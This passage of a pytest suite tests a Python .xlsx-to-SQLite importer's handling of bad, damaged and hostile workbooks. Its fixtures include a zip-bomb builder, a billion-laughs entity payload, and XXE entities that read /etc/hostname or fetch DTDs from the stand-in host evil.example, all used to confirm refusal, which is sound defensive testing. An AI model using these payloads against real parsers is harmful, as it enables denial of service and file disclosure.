        row(n, num(f"A{n}", n), text(f"B{n}", f"name {n}"), num(f"C{n}", n / 3))
        for n in range(2, 30_002)
    )
    data = build_xlsx([("S", sheet)])
    calls: list[tuple[int, int]] = []
    load(data, conn, progress=lambda rows, done: calls.append((rows, done)))
    rows = [r for r, _ in calls]
    done = [d for _, d in calls]
    assert rows == sorted(rows)
    assert done == sorted(done)
    assert rows[-1] == 30_000
    assert done[-1] == len(data)
    assert max(b - a for a, b in zip([0, *rows], rows, strict=False)) <= 5000


# Bad files: magic bytes and archives


def test_an_empty_file() -> None:
    assert load_error(b"").message == "book.xlsx is empty."


def test_a_legacy_or_password_protected_workbook() -> None:
    error = load_error(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)
    assert error.message == (
        "book.xlsx: password-protected or legacy .xls workbooks are not supported:"
        " save it as .xlsx."
    )


def test_a_csv_renamed_xlsx() -> None:
    error = load_error(b"name,age\nAda,36\n")
    assert (
        error.message
        == "book.xlsx is not an .xlsx workbook: it is plain text, probably CSV or TSV data."
    )
    assert error.hint.startswith("Rename the file to end in .csv")


@pytest.mark.parametrize(
    "head", [b'<?xml version="1.0"?><Workbook/>', b"\xef\xbb\xbf<html><table>", b"  <TABLE>"]
)
def test_xml_or_html_under_a_workbook_name(head: bytes) -> None:
    error = load_error(head)
    assert (
        error.message
        == "book.xlsx is not an .xlsx workbook: it is an XML or HTML file under a workbook name."
    )


def test_another_binary_format() -> None:
    error = load_error(b"\x89PNG\r\n\x1a\n" + bytes(100))
    assert error.message == "book.xlsx is not an Excel workbook: it looks like a PNG image."


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("members", "what"),
    [
        ({"notes.txt": b"hi"}, "a ZIP archive"),
        ({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}, "a Word document"),
        ({"ppt/presentation.xml": b"<p/>"}, "a PowerPoint presentation"),
        (
            {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"},
            "an OpenDocument spreadsheet (.ods)",
        ),
        (
            {"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x00"},
            "a binary Excel workbook (.xlsb)",
        ),
        ({}, "a ZIP archive"),
    ],
)
def test_a_zip_that_is_not_a_workbook(members: dict[str, bytes], what: str) -> None:
    assert (
        load_error(zip_of(members)).message == f"book.xlsx is not an Excel workbook: it is {what}."
    )


def test_a_truncated_workbook_is_corrupt() -> None:
    data = build_xlsx([("S", header("a") + row(2, num("A2", 1)))])
    error = load_error(data[: len(data) // 2])
    assert error.message.startswith("book.xlsx: archive is corrupt: its directory cannot be read")


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels"])
def test_a_damaged_part_that_openpyxl_reads(part: str) -> None:
    data = build_xlsx([("S", header("a"))])
    error = load_error(rezip(data, {part: b"<workbook><sheets><oops"}))
    assert error.message == (
        f"book.xlsx could not be read as an Excel workbook: part {part} is damaged (unclosed"
        " token: line 1, column 18)."
    )
    assert error.hint == "Open it in Excel and save it again as an Excel Workbook (.xlsx)."


def test_a_missing_relationships_part() -> None:
    data = rezip(build_xlsx([("S", header("a"))]), {"xl/_rels/workbook.xml.rels": None})
    error = load_error(data)
    assert error.message == (
        "book.xlsx could not be read as an Excel workbook: part xl/_rels/workbook.xml.rels is"
        " missing."
    )


def test_a_damaged_sheet_part_in_the_zip() -> None:
    data = bytearray(build_xlsx([("S", header("a") + row(2, text("A2", "x" * 5000)))]))
    at = data.find(b"xl/worksheets/sheet1.xml") + 60  # inside the compressed sheet
    data[at : at + 40] = bytes(40)
    error = load_error(bytes(data))
    assert error.message.startswith("book.xlsx: archive is corrupt (part xl/worksheets/sheet1.xml)")


def test_a_workbook_without_worksheets() -> None:
    data = build_xlsx([])
    assert load_error(data).message == "book.xlsx holds no data: it has no worksheets."


def test_a_workbook_whose_sheets_were_all_skipped() -> None:
    workbook = (
        f'<workbook xmlns="{NS}" xmlns:r="{RELS}"><sheets><sheet name="S" sheetId="1"/>'
        "</sheets></workbook>"
    )
    data = rezip(build_xlsx([("S", header("a"))]), {"xl/workbook.xml": workbook.encode()})
    assert load_error(data).message == (
        "book.xlsx holds no data: Sheet 'S' is listed in the workbook but missing; skipped."
    )


def test_a_malformed_cell_reference() -> None:
    error = load_error(build_xlsx([("S", header("a") + row(2, '<c r="1A"><v>1</v></c>'))]))
    assert (
        error.message == "book.xlsx: sheet 'S' has a cell with the invalid reference '1A' in row 2."
    )


def test_a_shared_string_that_does_not_exist() -> None:
    error = load_error(
        build_xlsx([("S", header("a") + row(2, cell("A2", "s", "<v>7</v>")))], strings=["x"])
    )
    assert (
        error.message
        == "book.xlsx: cell A2 of sheet 'S' refers to shared string '7', which does not exist."
    )


def test_a_cell_longer_than_sqlite_accepts(conn: sqlite3.Connection) -> None:
    conn.setlimit(sqlite3.SQLITE_LIMIT_LENGTH, 1000)
    error = load_error(build_xlsx([("S", header("a") + row(2, text("A2", "x" * 2000)))]), conn=conn)
    assert error.message == (
        "book.xlsx: cell A2 of sheet 'S' holds 2,000 characters, more than the 1,000 SQLite"
        " accepts in one value."
    )
    error = load_error(build_xlsx([("S", header("a"))], strings=["y" * 1500]), conn=conn)
    assert error.message == (
        "book.xlsx: shared string 0 holds 1,500 characters, more than the 1,000 SQLite accepts"
        " in one value."
    )


def test_without_defusedxml_nothing_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "SAFE_XML", False)
    error = load_error(build_xlsx([("S", header("a"))]))
    assert error.message == (
        "book.xlsx cannot be opened: Excel support is missing its safe XML parser (defusedxml),"
        " so no workbook is read."
    )


def test_openpyxl_parses_with_defusedxml() -> None:
    assert openpyxl.DEFUSEDXML is True
    assert xlsx.SAFE_XML is True


class OneWayStream:
    def __init__(self, data: bytes) -> None:
        self._inner = io.BytesIO(data)

    def read(self, size: int = -1, /) -> bytes:
        return self._inner.read(size)


def test_a_stream_that_cannot_seek(conn: sqlite3.Connection) -> None:
    data = build_xlsx([("S", header("a") + row(2, num("A2", 1)))])
    (report,) = import_xlsx(conn, Allocator(), OneWayStream(data), source="book.xlsx")
    assert rows_of(conn, report.table) == [(1,)]


def test_an_unreadable_stream() -> None:
    class Broken:
        def read(self, _size: int = -1, /) -> bytes:
            raise OSError(5, "Input/output error")

    with closing(sqlite3.connect(":memory:")) as connection, pytest.raises(LoadError) as caught:
        import_xlsx(connection, Allocator(), Broken(), source="book.xlsx")
    assert caught.value.message == "Could not read book.xlsx: Input/output error."


# Zip bombs (RELIABILITY B2)


def whitespace_bomb(megabytes: int, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A valid workbook whose ``part`` is mostly spaces, written in streaming fashion."""
    data = build_xlsx([("S", header("a"))], strings=["s"])
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for entry in source.infolist():
            if entry.filename != part:
                target.writestr(entry.filename, source.read(entry.filename))
        opening, closing_tag = (f'<worksheet xmlns="{NS}"><sheetData>', "</sheetData></worksheet>")
        if part.endswith("sharedStrings.xml"):
            opening, closing_tag = (f'<sst xmlns="{NS}"><si><t>', "</t></si></sst>")
        with target.open(part, "w") as member:
            member.write(opening.encode())
            block = b" " * MIB
            for _ in range(megabytes):
                member.write(block)
            member.write(closing_tag.encode())
    return out.getvalue()


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"])
def test_a_zip_bomb_is_refused_before_parsing(part: str) -> None:
    data = whitespace_bomb(200, part)
    assert len(data) < 400 * 1024
    started = time.perf_counter()
    error = load_error(data)
    elapsed = time.perf_counter() - started
    assert re.fullmatch(
        rf"book\.xlsx was refused: part {re.escape(part)} would expand [\d,]+ times, from"
        r" [\d.]+ KiB to 200\.0 MiB; data this dense is the mark of a zip bomb\.",
        error.message,
    )
    assert elapsed < 5  # a hang guard: parsing 200 MiB takes far longer


def test_a_declared_total_over_the_budget_is_refused() -> None:
    from tests.unit.test_zip_guard import set_declared_size

    data = build_xlsx([("S", header("a"))])
    data = set_declared_size(data, "xl/worksheets/sheet1.xml", 600 * MIB)
    error = load_error(data)
    assert error.message.startswith("book.xlsx was refused: its parts would expand to 600.0 MiB")


def test_a_lying_zip_header_is_caught_while_reading() -> None:
    from tests.unit.test_zip_guard import set_declared_size

    sheet = header("a") + "".join(row(n, num(f"A{n}", n)) for n in range(2, 2000))
    data = set_declared_size(build_xlsx([("S", sheet)]), "xl/worksheets/sheet1.xml", 2000)
    error = load_error(data)
    assert error.message.startswith(
        "book.xlsx: archive is corrupt (part xl/worksheets/sheet1.xml): "
    )


# XML attacks (RELIABILITY B1)

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">'
        for n in range(1, 10)
    )
    + "]>"
)


def test_billion_laughs_in_shared_strings_is_refused_quickly() -> None:
    strings = LAUGHS + f'<sst xmlns="{NS}"><si><t>&lol9;</t></si></sst>'
    data = build_xlsx([("S", header("a"))], strings=strings)
    started = time.perf_counter()
    error = load_error(data)
    assert time.perf_counter() - started < 5  # a hang guard: expanding takes minutes
    assert error.message == (
        "book.xlsx: workbook contains XML entity declarations; refused (in part"
        " xl/sharedStrings.xml)."
    )


def test_an_external_entity_in_a_sheet_is_refused_and_nothing_is_read() -> None:
    sheet = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
        f'<worksheet xmlns="{NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t>'
        "</is></c></row></sheetData></worksheet>"
    )
    error = load_error(build_xlsx([("S", sheet)]))
    assert error.message == (
        "book.xlsx: workbook contains XML entity declarations; refused (in part"
        " xl/worksheets/sheet1.xml)."
    )


def test_a_parameter_entity_and_an_external_dtd_are_refused() -> None:
    external = (
        '<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://evil.example/x.dtd">'
        f'<worksheet xmlns="{NS}"/>'
    )
    error = load_error(build_xlsx([("S", external)]))
    assert error.message == (
        "book.xlsx: workbook contains an XML document type declaration (in part"
        " xl/worksheets/sheet1.xml); refused."
    )
    parameter = '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><w/>'
    assert "entity declarations; refused" in load_error(build_xlsx([("S", parameter)])).message


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"])
def test_entities_in_parts_openpyxl_reads_are_refused_by_defusedxml(part: str) -> None:
    data = build_xlsx([("S", header("a"))])
    original = read_part(data, part)
    bomb = LAUGHS.replace('<?xml version="1.0"?>', "") + original
    started = time.perf_counter()
    error = load_error(rezip(data, {part: bomb.encode()}))
    assert time.perf_counter() - started < 5  # a hang guard: expanding takes minutes
    assert error.message == (
        f"book.xlsx: workbook contains XML entity declarations; refused (in part {part})."
    )


# Round trip


def writes_as_text(value: str) -> bool:
    """openpyxl writes "=..." as a formula and "#N/A" as an error; Excel decodes "_x0041_"."""
    return not value.startswith("=") and value not in ERROR_CODES and "_x" not in value


cell_values = st.one_of(
    st.none(),
    # openpyxl writes every number with "%.16g": draw the ones that survive it (Excel itself
    # keeps 15 significant digits).
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False)
    .map(lambda f: float(f"{f:.16g}"))
    .filter(lambda f: abs(f) != float("inf")),
    st.booleans(),
    st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=20).filter(writes_as_text),
)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.lists(cell_values, min_size=3, max_size=3), max_size=8))
def test_round_trip_through_openpyxl(table: list[list[object]]) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.active
        assert sheet is not None
        sheet.append(["a", "b", "c"])
        for values in table:
            sheet.append(values)

    expected = [tuple(None if v == "" else v for v in values) for values in table]
    expected = [values for values in expected if any(v is not None for v in values)]
    with closing(sqlite3.connect(":memory:", isolation_level=None)) as connection:
        (report,) = load(from_openpyxl(fill), connection)
        got = rows_of(connection, report.table)
        assert len(got) == len(expected)
        for column, declared in enumerate(report.types):
            for got_row, want_row in zip(got, expected, strict=True):
                assert same_value(got_row[column], want_row[column], declared)


def same_value(got: object, want: object, declared: str) -> bool:
    if want is None:
        return got is None
    if declared == "TEXT":
        if isinstance(want, bool):
            return got == ("TRUE" if want else "FALSE")
        if isinstance(want, float):  # what openpyxl wrote, read back as the importer does
            written = f"{want:.16g}"
            if not any(mark in written for mark in ".en"):
                return got == str(int(written))
            exact = want.is_integer() and abs(want) < 2**53
            return got == (str(int(want)) if exact else repr(want))
        return got == str(want)
    return got == want
